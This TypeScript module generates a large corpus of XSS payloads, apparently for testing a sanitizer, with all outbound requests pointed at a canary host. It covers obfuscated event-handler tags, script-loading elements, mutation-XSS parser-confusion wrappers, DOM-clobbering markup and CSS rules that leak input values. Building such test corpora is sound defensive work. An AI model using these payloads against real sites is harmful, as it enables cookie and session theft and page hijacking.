import { canaryHost, codeOf, product, turnOf } from './payload.ts'

const tags = [
  ...['a', 'b', 'img', 'svg', 'math', 'video', 'audio', 'body', 'details', 'input', 'button', 'select', 'textarea'],
  ...['form', 'iframe', 'marquee', 'div', 'style', 'table', 'dialog', 'x-own', 'image', 'object', 'p'],
]
const events = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onpointerenter', 'onanimationstart'],
  ...['onbeforetoggle', 'onscrollend', 'oncontentvisibilityautostatechange'],
]
// How one and the same tag can be written; `c` is the code that it would run.
type Way = (tag: string, event: string, c: string) => string
const ways: [Way, ...Way[]] = [
  (tag, event, c) => `<${tag} ${event}=${c}>`,
  (tag, event, c) => `<${tag} src=x href=x autofocus tabindex=0 open ${event}="${c}">x</${tag}>`,
  (tag, event, c) => `<${tag}/${event}='${c.replaceAll("'", '`')}'//x`,
  (tag, event, c) => `<${tag.toUpperCase()}\n${mixed(event)}\t=\f${c}\n>`,
  (tag, event, c) => `<${tag} x="><" ${event}=${entities(c)}>`,
  (tag, event, c) => `"'><${tag} style="animation:x" ${event} = \`${c}\` x=`,
  (tag, event, c) => `texto <${tag} \u0000${event}=${c} `,
]

/** Elements that run something by an event: every tag with every event, written by turns in all the ways. */
export function eventTags(): string[] {
  return product(tags, events).flatMap(([tag, event], turn) =>
    [0, 2, 3, 5].map((step) => turnOf(ways, turn + step)(tag, event, codeOf(turn + step))),
  )
}

function mixed(word: string): string {
  return Array.from(word, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('')
}

export function entities(text: string): string {
  return Array.from(text, (letter, at) => {
    const code = letter.codePointAt(0) ?? 0
    return [
      `&#${code};`,
      `&#x${code.toString(16)};`,
      `&#${String(code).padStart(7, '0')}`,
      `&#X${code.toString(16)} `.trim(),
    ][at % 4]
  }).join('')
}

// What runs or fetches by being there.
const beings = (c: string, h = `https://${canaryHost}/x`) => [
  `<script>${c}</script>`,
  `<script src=${h}></script>`,
  `<script type=module>import('${h}')</script>`,
  `<svg><script>${c}</script></svg>`,
  `<svg><script href=${h} /></svg>`,
  `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${c}><a href=#><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${c}'/></svg>#x">`,
  `<svg><image href=${h} /></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${c}>x</maction></math>`,
  `<iframe src=javascript:${c}></iframe>`,
  `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  `<iframe src=${h}></iframe>`,
  `<object data=${h}></object>`,
  `<object data="data:text/html,<script>parent.${c}</script>"></object>`,
  `<embed src=${h}>`,
  `<embed src=javascript:${c}>`,
  `<meta http-equiv=refresh content="0;url=${h}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href=${h}/>`,
  `<link rel=stylesheet href=${h}>`,
  `<link rel=preconnect href=${h}>`,
  `<link rel=dns-prefetch href=//${canaryHost}>`,
  `<link rel=prefetch href=${h}>`,
  `<link rel=modulepreload href=${h}>`,
  `<link rel=import href=${h}>`,
  `<img src=${h}>`,
  `<img srcset="${h} 1x, ${h}2 2x">`,
  `<picture><source srcset=${h}><img></picture>`,
  `<video poster=${h}></video>`,
  `<video src=${h} autoplay></video>`,
  `<audio src=${h} autoplay></audio>`,
  `<video><source onerror=${c}><track src=${h} default></video>`,
  `<input type=image src=${h}>`,
  `<body background=${h}>`,
  `<table background=${h}><td background=${h}>x</table>`,
  `<isindex action=javascript:${c} type=image>`,
  `<form action=${h} id=f><button form=f formaction=javascript:${c}>x</button></form>`,
  `<form action=${h}><input name=q value=1><input type=submit autofocus></form>`,
  `<a href=x ping=${h} attributionsrc=${h}>x</a>`,
  `<img attributionsrc=${h} src=data:,>`,
  `<applet code=${h}>`,
  `<frameset><frame src=javascript:${c}></frameset>`,
  `<portal src=${h}></portal>`,
  `<bgsound src=${h}>`,
  `<layer src=${h}></layer>`,
  `<xml id=x><a><b>&lt;script&gt;${c}&lt;/script&gt;</b></a></xml>`,
  `<slot onslotchange=${c}><template shadowrootmode=open><script>${c}</script></template></slot>`,
  `<template><script>${c}</script></template>`,
]

// What a parser may read one way and a second one another: the ends of elements whose text is raw, and changes of name space.
const around: ((inside: string) => string)[] = [
  (x) => x,
  (x) => `<div>\n\n${x}\n\n</div>`,
  (x) => `<noscript><p title="</noscript>${x}">`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<math><mtext><table><mglyph><style><!--</style>${x}`,
  (x) => `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${x}">`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<svg><desc><![CDATA[</desc>${x}]]></svg>`,
  (x) => `<math><annotation-xml encoding="text/html"><style>${x}</style></annotation-xml></math>`,
  (x) => `<template><style></template>${x}`,
  (x) => `<title><a title="</title>${x}">`,
  (x) => `<xmp><p title="</xmp>${x}">`,
  (x) => `<textarea></textarea><!--><${x}-->`,
  (x) => `<!--><p>${x}<!-- -->`,
  (x) => `<!-- --!>${x}-->`,
  (x) => `<!doctype x [<!ENTITY y "${x}">]>&y;`,
  (x) => `<?xml-stylesheet ?>${x}?>`,
  (x) => `<a><table><a>${x}</table></a>`,
  (x) => `<select><option><style></option></select>${x}</style>`,
  (x) => `<iframe><!--</iframe>${x}-->`,
  (x) => `<noembed><p id="</noembed>${x}">`,
  (x) => `<plaintext>${x}`,
  (x) => `<b><p><svg></b>${x}`,
  (x) => `<table><caption><style><!--</caption></table>${x}`,
]

export function runningElements(): string[] {
  return product(around, beings(codeOf(0))).map(([wrap], turn) => {
    const all = beings(codeOf(turn))
    return wrap(all[turn % all.length] ?? '')
  })
}

const names = [
  ...[
    '__hit',
    'alert',
    'document',
    'location',
    'body',
    'forms',
    'cookie',
    'getElementById',
    'querySelector',
    'children',
  ],
  ...[
    'attributes',
    'parentNode',
    'nextSibling',
    'innerHTML',
    'app',
    'main',
    'post-1',
    'session',
    '__proto__',
    'constructor',
  ],
  ...['trustedTypes', 'navigator', 'fetch', 'localStorage', 'content', 'name', 'self', 'history'],
]

/** Elements that take the name of what scripts look for. */
export function clobberings(): string[] {
  return names.flatMap((name) => [
    `<a id=${name}></a><a id=${name} name=href href="https://${canaryHost}/c">x</a>`,
    `<form id=${name}><input name=${name}><output name=attributes></form>`,
    `<img name=${name} src=data:,>`,
    `<iframe name=${name} srcdoc="<a id=x href=https://${canaryHost}/>"></iframe>`,
    `<object id=${name} name=${name}></object>`,
    `<p id="${name}" class="${name}" name=${name} slot=${name} is=${name} part=${name}>x</p>`,
    `<h4 id=post_01ARZ3NDEKTSV4RRFFQ69G5FAV-${name}>x</h4>`,
    `[^${name}]\n\n[^${name}]: ${name}`,
    `# ${name} {#${name}}`,
  ])
}

const rules = [
  `*{background:url(https://${canaryHost}/s)}`,
  `@import 'https://${canaryHost}/s';`,
  `@import url(//${canaryHost}/s);`,
  `input[value^=a]{background:url(//${canaryHost}/a)}`,
  `@font-face{font-family:x;src:url(https://${canaryHost}/f)}*{font-family:x}`,
  `*{list-style:url(//${canaryHost}/l);cursor:url(//${canaryHost}/c),auto}`,
  `a{behavior:url(#x);-moz-binding:url(//${canaryHost}/b)}`,
  'a{width:expression(alert(1))}',
  'body{display:none}',
  '*{position:fixed;inset:0;z-index:9999;font-size:9em}',
  `@namespace url(https://${canaryHost}/n);`,
  `:root{--x:url(//${canaryHost}/v)}html{background:image-set("//${canaryHost}/g" 1x)}`,
]

export function styles(): string[] {
  return rules.flatMap((rule) => {
    const inside = /\{([^}]*)\}/.exec(rule)?.[1] ?? rule
    return [
      `<style>${rule}</style>`,
      `<svg><style>${rule}</style></svg>`,
      `<style media=all onload=alert(1)>${rule}`,
      `<link rel=stylesheet href="data:text/css,${encodeURIComponent(rule)}">`,
      `<p style="${inside.replaceAll('"', '')}">x</p>`,
      `<div\nstyle=${inside.replaceAll(' ', '/**/')}>x</div>`,
      `<p STYLE="${entities(inside)}">x</p>`,
      `<svg fill="url(https://${canaryHost}/p#x)" style="${inside.replaceAll('"', '')}"><path filter="url(//${canaryHost}/q#x)"/></svg>`,
    ]
  })
}
